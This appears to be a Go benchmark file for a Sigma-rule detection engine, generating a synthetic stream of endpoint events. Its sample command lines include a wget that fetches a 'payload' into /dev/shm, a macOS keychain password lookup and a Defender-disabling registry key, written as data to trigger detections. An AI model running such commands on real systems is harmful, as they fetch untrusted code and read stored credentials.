package policies

import (
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigilhq/vigil/internal/event"
	"github.com/vigilhq/vigil/internal/shareddata"
)

// A realistic mixed event stream for benchmarks and differential tests: process creations on
// Windows, Linux and macOS with real-looking images and command lines, network connections, file
// events, DNS queries, registry writes, image loads and Windows logons.

var (
	winImages = []struct{ image, orig, product, company string }{
		{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Windows\System32\svchost.exe`, "svchost.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google Chrome", "Google LLC"},
		{`C:\Windows\explorer.exe`, "EXPLORER.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Windows\System32\msiexec.exe`, "msiexec.exe", "Windows Installer", "Microsoft Corporation"},
		{`C:\Windows\System32\conhost.exe`, "CONHOST.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "Code.exe", "Visual Studio Code", "Microsoft Corporation"},
		{`C:\Program Files\Git\cmd\git.exe`, "git.exe", "Git", "The Git Development Community"},
		{`C:\Program Files\7-Zip\7z.exe`, "7z.exe", "7-Zip", "Igor Pavlov"},
		{`C:\Program Files (x86)\AnyDesk\AnyDesk.exe`, "AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH"},
		{`C:\Windows\System32\reg.exe`, "reg.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Windows\System32\schtasks.exe`, "schtasks.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Windows\System32\taskhostw.exe`, "taskhostw.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation"},
		{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Outlook.exe", "Microsoft Outlook", "Microsoft Corporation"},
	}
	winCommands = []string{
		`"%s" /c echo hello > C:\Users\alice\Desktop\out.txt`,
		`"%s" -NoProfile -ExecutionPolicy Bypass -File C:\Users\alice\scripts\backup.ps1`,
		`"%s" -k netsvcs -p -s Schedule`,
		`"%s" --type=renderer --lang=en-US --field-trial-handle=1234,i,5678 /prefetch:1`,
		`"%s"`,
		`"%s" C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl`,
		`"%s" /i C:\Users\alice\Downloads\setup.msi /qn`,
		`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`,
		`"%s" --folder-uri file:///c%%3A/Users/alice/src/project`,
		`"%s" clone https://github.com/example/project.git`,
		`"%s" a -tzip C:\Users\alice\Documents\archive.zip C:\Users\alice\Documents\Reports\*`,
		`"%s" --control --plain`,
		`"%s" query HKLM\Software\Microsoft\Windows\CurrentVersion\Run`,
		`"%s" /query /fo LIST /v`,
		`"%s" -Embedding`,
	}
	linuxProcs = []struct{ image, cmd string }{
		{"/usr/bin/bash", "bash -c ls -la /home/alice"},
		{"/usr/bin/curl", "curl -fsSL https://example.com/install.sh -o /tmp/install.sh"},
		{"/usr/bin/python3", "python3 /home/alice/src/tool/main.py --verbose"},
		{"/usr/sbin/sshd", "sshd: alice [priv]"},
		{"/usr/bin/git", "git pull --rebase origin main"},
		{"/usr/bin/tar", "tar -czf /tmp/backup.tar.gz /home/alice/Documents"},
		{"/usr/bin/sudo", "sudo apt-get update"},
		{"/usr/bin/systemctl", "systemctl status nginx"},
		{"/usr/bin/x11vnc", "x11vnc -display :0 -forever"},
		{"/usr/bin/crontab", "crontab -l"},
		{"/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no deploy@10.0.0.12"},
		{"/usr/bin/wget", "wget -q http://203.0.113.7/payload -O /dev/shm/p"},
	}
	macProcs = []struct{ image, cmd string }{
		{"/bin/zsh", "/bin/zsh -l"},
		{"/usr/bin/osascript", "osascript -e display dialog \"hello\""},
		{"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --type=gpu-process"},
		{"/usr/bin/ditto", "ditto -c -k --sequesterRsrc /Users/alice/Documents /tmp/docs.zip"},
		{"/usr/sbin/screencapture", "screencapture -x /tmp/s.png"},
		{"/usr/bin/defaults", "defaults read com.apple.dock"},
		{"/usr/bin/hdiutil", "hdiutil attach /Users/alice/Downloads/App.dmg"},
		{"/usr/bin/security", "security find-generic-password -s Chrome"},
	}
	hostnames = []string{"www.google.com", "github.com", "api.github.com", "update.microsoft.com",
		"relay-1a2b3c4d.net.anydesk.com", "teams.microsoft.com", "login.microsoftonline.com",
		"slack.com", "s3.amazonaws.com", "pastebin.com", "ngrok.io", "tunnel.us.ngrok.com",
		"mega.nz", "dropbox.com", "example.org", "cdn.jsdelivr.net"}
	regKeys = []string{
		`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive`,
		`HKU\S-1-5-21-1111-2222-3333-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.txt`,
		`HKLM\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001\\Device\HarddiskVolume3\Windows\explorer.exe`,
		`HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`,
		`HKU\S-1-5-21-1111-2222-3333-1001\Software\Microsoft\Office\16.0\Outlook\Profiles`,
		`HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\fDenyTSConnections`,
	}
	dlls = []string{`C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\wininet.dll`,
		`C:\Windows\System32\dbghelp.dll`, `C:\Windows\System32\vaultcli.dll`, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll`}
	files = []string{`C:\Users\alice\Documents\Q3 report.docx`, `C:\Users\alice\AppData\Local\Temp\tmp1234.tmp`,
		`C:\Users\alice\Downloads\setup.msi`, `C:\ProgramData\AnyDesk\service.conf`, `C:\Windows\Temp\svc.ps1`,
		`C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\run.lnk`, `C:\Users\alice\Desktop\archive.7z`}
)

// streamEvents returns n events of the mixed stream, deterministically.
func streamEvents(n int, seed uint64) []*event.Event {
	rng := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	base := time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)
	pick := func(xs []string) string { return xs[rng.IntN(len(xs))] }
	out := make([]*event.Event, 0, n)
	for i := 0; i < n; i++ {
		ev := &event.Event{ID: fmt.Sprintf("ev-%06d", i), Time: base.Add(time.Duration(i) * 37 * time.Millisecond), Host: fmt.Sprintf("laptop-%02d", rng.IntN(20)), Fields: map[string]any{}}
		f := ev.Fields
		user := pick([]string{`CORP\alice`, `CORP\bob`, `NT AUTHORITY\SYSTEM`, `CORP\adm_carol`})
		switch r := rng.IntN(100); {
		case r < 25:
			ev.Category, ev.Product = "process_creation", "windows"
			im := winImages[rng.IntN(len(winImages))]
			par := winImages[rng.IntN(len(winImages))]
			cmd := winCommands[rng.IntN(len(winCommands))]
			if strings.Contains(cmd, "%s") {
				cmd = fmt.Sprintf(cmd, im.image)
			}
			f["Image"], f["OriginalFileName"], f["Product"], f["Company"] = im.image, im.orig, im.product, im.company
			f["Description"] = im.product
			f["CommandLine"] = cmd
			f["ParentImage"] = par.image
			f["ParentCommandLine"] = `"` + par.image + `"`
			f["CurrentDirectory"] = `C:\Users\alice\`
			f["User"] = user
			f["IntegrityLevel"] = pick([]string{"Medium", "High", "System"})
			f["Hashes"] = fmt.Sprintf("SHA256=%064X", rng.Uint64())
			f["ProcessId"] = rng.IntN(60000)
			f["ParentProcessId"] = rng.IntN(60000)
		case r < 35:
			ev.Category, ev.Product = "process_creation", "linux"
			p := linuxProcs[rng.IntN(len(linuxProcs))]
			f["Image"], f["CommandLine"] = p.image, p.cmd
			f["ParentImage"] = pick([]string{"/usr/bin/bash", "/usr/lib/systemd/systemd", "/usr/bin/zsh"})
			f["User"] = pick([]string{"alice", "root", "deploy"})
			f["CurrentDirectory"] = "/home/alice"
			f["ProcessId"] = rng.IntN(60000)
		case r < 40:
			ev.Category, ev.Product = "process_creation", "macos"
			p := macProcs[rng.IntN(len(macProcs))]
			f["Image"], f["CommandLine"] = p.image, p.cmd
			f["ParentImage"] = "/bin/zsh"
			f["User"] = "alice"
			f["ProcessId"] = rng.IntN(60000)
		case r < 55:
			ev.Category, ev.Product = "network_connection", "windows"
			im := winImages[rng.IntN(len(winImages))]
			f["Image"] = im.image
			f["DestinationHostname"] = pick(hostnames)
			f["DestinationIp"] = fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(223), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
			f["DestinationPort"] = []int{443, 80, 3389, 22, 5938, 7070, 8080}[rng.IntN(7)]
			f["SourceIp"] = "10.1.2.3"
			f["SourcePort"] = 49152 + rng.IntN(16000)
			f["Initiated"] = rng.IntN(4) != 0
			f["Protocol"] = "tcp"
			f["User"] = user
		case r < 70:
			ev.Category, ev.Product = "file_event", "windows"
			f["TargetFilename"] = pick(files)
			f["Image"] = winImages[rng.IntN(len(winImages))].image
			f["User"] = user
		case r < 78:
			ev.Category, ev.Product = "dns_query", "windows"
			f["QueryName"] = pick(hostnames)
			f["Image"] = winImages[rng.IntN(len(winImages))].image
			f["QueryStatus"] = "0"
			f["QueryResults"] = "type:  5 edge.example.net;::ffff:93.184.216.34;"
		case r < 88:
			ev.Category, ev.Product = "registry_set", "windows"
			f["EventType"] = "SetValue"
			f["TargetObject"] = pick(regKeys)
			f["Details"] = pick([]string{"DWORD (0x00000001)", `C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe /background`, "Binary Data"})
			f["Image"] = winImages[rng.IntN(len(winImages))].image
		case r < 95:
			ev.Category, ev.Product = "image_load", "windows"
			f["ImageLoaded"] = pick(dlls)
			f["Image"] = winImages[rng.IntN(len(winImages))].image
			f["Signed"] = "true"
			f["Signature"] = "Microsoft Windows"
		default:
			ev.Product, ev.Service = "windows", "security"
			f["EventID"] = []int{4624, 4625, 4672, 4688}[rng.IntN(4)]
			f["TargetUserName"] = pick([]string{"alice", "bob", "Administrator", "svc_backup"})
			f["LogonType"] = []int{2, 3, 10}[rng.IntN(3)]
			f["IpAddress"] = fmt.Sprintf("10.1.%d.%d", rng.IntN(256), rng.IntN(256))
			f["WorkstationName"] = "WS-" + fmt.Sprint(rng.IntN(100))
		}
		out = append(out, ev)
	}
	return out
}

// sigmaHQRulePaths are the SigmaHQ rule folders of the benchmark's set (a).
func sigmaHQRulePaths(tb testing.TB) []string {
	base := shareddata.Dir(tb, "sigmahq")
	var out []string
	for _, d := range []string{"rules", "rules-emerging-threats", "rules-threat-hunting", "rules-placeholder"} {
		out = append(out, filepath.Join(base, d))
	}
	return out
}

// corpusPlaceholders supplies every placeholder the rules-placeholder folder uses.
var corpusPlaceholders = LoadOptions{Placeholders: map[string][]string{
	"domain_controller_hostnames": {"dc-01", "dc-02"},
	"Legitimate_Countries":        {"DE", "KR"},
	"Legitimate_IP_Ranges":        {"10.0.0.0/8"},
	"Important_AppIds":            {"00000002-0000-0ff1-ce00-000000000000"},
	"ApprovedUserUpn":             {"admin@example.com"},
	"Approved_Inviters":           {"it@example.com"},
	"known_cdcs":                  {"cdc-01$"},
}}

func loadCorpus(tb testing.TB, withLOLRMM bool) *Ruleset {
	tb.Helper()
	paths := sigmaHQRulePaths(tb)
	if withLOLRMM {
		paths = append(paths, shareddata.Dir(tb, "lolrmm", "sigma"))
	}
	rs, _, err := LoadPaths(paths, corpusPlaceholders)
	if err != nil {
		tb.Fatal(err)
	}
	return rs
}

func benchmarkStream(b *testing.B, withLOLRMM bool) {
	rs := loadCorpus(b, withLOLRMM)
	eng, err := NewEngine(rs, EngineOptions{})
	if err != nil {
		b.Fatal(err)
	}
	events := streamEvents(8192, 1)
	findings := 0
	emit := func(*Finding) { findings++ }
	for _, ev := range events { // warm the per-logsource buckets
		eng.Process(ev, emit)
	}
	findings = 0
	b.ReportAllocs()
	b.ResetTimer()
	cpu0 := cpuTime()
	for i := 0; i < b.N; i++ {
		eng.Process(events[i%len(events)], emit)
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	if cpu := cpuTime() - cpu0; cpu > 0 {
		// Throughput per CPU-second of this process (GC included): on a busy shared machine
		// wall-clock events/s understates what one core does.
		b.ReportMetric(float64(b.N)/cpu.Seconds(), "events/cpu-s")
	}
	b.ReportMetric(float64(len(rs.rules)), "rules")
	b.ReportMetric(float64(findings)/float64(b.N), "findings/event")
}

// BenchmarkEngineSigmaHQ: the SigmaHQ rules (rules, emerging threats, threat hunting,
// placeholders) over the mixed stream.
func BenchmarkEngineSigmaHQ(b *testing.B) { benchmarkStream(b, false) }

// BenchmarkEngineSigmaHQAndLOLRMM: the same plus the 632 LOLRMM rules.
func BenchmarkEngineSigmaHQAndLOLRMM(b *testing.B) { benchmarkStream(b, true) }
